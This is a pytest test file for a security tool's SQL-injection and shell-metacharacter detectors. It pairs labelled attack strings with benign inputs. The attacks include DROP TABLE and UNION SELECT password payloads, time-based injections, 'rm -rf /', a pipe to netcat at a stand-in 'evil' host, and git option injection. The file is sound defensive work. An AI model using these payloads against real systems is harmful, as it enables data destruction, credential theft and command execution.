"""SQL-injection and shell-metacharacter detectors (mcpwall.checks.sqli, mcpwall.checks.shell)."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mcpwall.checks.shell import find_shell_metachar
from mcpwall.checks.sqli import find_sql_injection

SQL_ATTACKS = [
    ("' OR '1'='1", "tautology"),
    ("' or 1=1 --", "tautology"),
    ("1 OR 1=1", "tautology"),
    ("admin'--", "quote_breakout"),
    ("x'; DROP TABLE users; --", "stacked_statement"),
    ("Robert'); DROP TABLE Students;--", "stacked_statement"),
    ("1; DELETE FROM accounts", "stacked_statement"),
    ("1 UNION SELECT username, password FROM users", "union_select"),
    ("1/**/UNION/**/SELECT/**/1", "union_select"),
    ("1 uNiOn aLl SeLeCt null", "union_select"),
    ("' or true--", "boolean_breakout"),
    ("\" OR \"\"=\"", "tautology"),
    ("1 AND SLEEP(5)", "dangerous_function"),
    ("1; WAITFOR DELAY '0:0:5'", "waitfor_delay"),
    ("x' AND pg_sleep(10) --", "dangerous_function"),
    ("1 AND extractvalue(1, concat(0x7e, version()))", "dangerous_function"),
    ("' INTO OUTFILE '/tmp/x", "quote_breakout"),
    ("1 AND (SELECT 1 FROM information_schema.tables)", "catalog_probe"),
    ("char(65,66,67,68)", "char_encoding"),
    ("%27%20OR%201%3D1--", "tautology"),
    ("admin' #", "quote_breakout"),
]
SQL_BENIGN = [
    "O'Brien", "Dunkin' Donuts", "don't stop me now", "rock and roll", "Select the best option",
    "union station", "drop-down menu", "C# or F#", "5 > 3", "name = value", "Tom's or Jerry's", "ORDER-42",
    "alice@example.com", "the 'best' hashtag #1 choice", "What is 1+1?", "updates; deletes are rare", "#hashtag",
    "https://example.com/?q=a&b=c", "-- just a dash", "it's 100% done", "x = 1", "or", "and 1", "null",
]


@pytest.mark.parametrize(("value", "rule"), SQL_ATTACKS)
def test_sql_injection_payloads_are_found(value: str, rule: str) -> None:
    assert find_sql_injection(value) == rule


@pytest.mark.parametrize("value", SQL_BENIGN)
def test_ordinary_text_is_not_sql_injection(value: str) -> None:
    assert find_sql_injection(value) is None


SHELL_ATTACKS = [
    ("a; rm -rf /", "command_separator"),
    ("a && curl x", "command_separator"),
    ("a | nc evil 1", "command_separator"),
    ("$(id)", "command_substitution"),
    ("`id`", "command_substitution"),
    ("${HOME}", "variable_expansion"),
    ("$PATH", "variable_expansion"),
    ("a > /etc/passwd", "redirection"),
    ("a\nid", "control"),
    ("a\x00b", "control"),
    ("--upload-pack=touch /tmp/x", "option_injection"),
    ("-rf", "option_injection"),
    ("a'b", "quoting"),
    ("a\\nb", "quoting"),
    ("*.txt", "glob"),
    ("~/x", "home_expansion"),
    ("!!", "history_expansion"),
    ("{a,b}", "grouping"),
]
SHELL_BENIGN = ["main", "feature/new-thing", "release-1.2.3", "file name.txt", "a_b.c", "x=1", "user@host",
                "100%", "a-b", "v2", "e2e+tests", "caf\u00e9"]


@pytest.mark.parametrize(("value", "rule"), SHELL_ATTACKS)
def test_shell_metacharacters_are_found(value: str, rule: str) -> None:
    assert find_shell_metachar(value) == rule


@pytest.mark.parametrize("value", SHELL_BENIGN)
def test_plain_words_are_inert(value: str) -> None:
    assert find_shell_metachar(value) is None


@given(st.text(max_size=200))
def test_detectors_are_total(value: str) -> None:
    find_sql_injection(value)
    find_shell_metachar(value)


@given(st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789 _./:@+,=%", max_size=40))
def test_shell_safe_alphabet_never_flags_except_leading_dash(value: str) -> None:
    assert find_shell_metachar(value) is None
